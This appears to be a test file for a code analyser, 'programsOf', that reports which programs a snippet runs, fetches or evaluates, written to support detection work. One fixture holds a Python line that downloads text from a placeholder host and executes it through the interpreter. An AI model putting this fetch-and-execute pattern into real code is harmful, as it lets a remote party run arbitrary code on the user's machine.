import { programsOf } from "./programs-of.ts";

test.each([
  [
    "pk/a.py",
    "import os, subprocess, sys\nsubprocess.run([sys.executable, os.path.join(os.path.dirname(__file__), 'b.py')])\n",
  ],
  [
    "pk/a.py",
    "import subprocess, sys\nfrom pathlib import Path\nsubprocess.run([sys.executable, Path(__file__).with_name('b.py')])\n",
  ],
  [
    "pk/a.js",
    "const { spawn } = require('child_process');\nspawn(process.execPath, [require('path').join(__dirname, 'b.py')]);\n",
  ],
])("%s: the file beside the program is found", async (path, text) => {
  const actions = await programsOf(path, text);
  expect(actions.map(({ does, what }) => [does, what])).toEqual([["run", "pk/b.py"]]);
});

test("an interpreter that is named by a variable evaluates what it is given", async () => {
  const text =
    "import subprocess, sys, requests\nt = requests.get('https://x.example').text\nsubprocess.run([sys.executable, '-c', t])\n";
  const actions = await programsOf("a.py", text);
  expect(actions.map(({ does }) => does)).toEqual(["fetch", "evaluate"]);
});

test.each([
  'execFileSync(existsSync("x") ? "/opt/bun/bin/bun" : process.execPath, [new URL("./b.js", import.meta.url).pathname]);',
])("a runner that is chosen later runs the file that it is given: %s", async (call) => {
  const text = `import { execFileSync } from "node:child_process";\nimport { existsSync } from "node:fs";\n${call}\n`;
  const actions = await programsOf("tools/a.mjs", text);
  expect(actions.map(({ does, what }) => [does, what])).toEqual([["run", "b.js"]]);
});
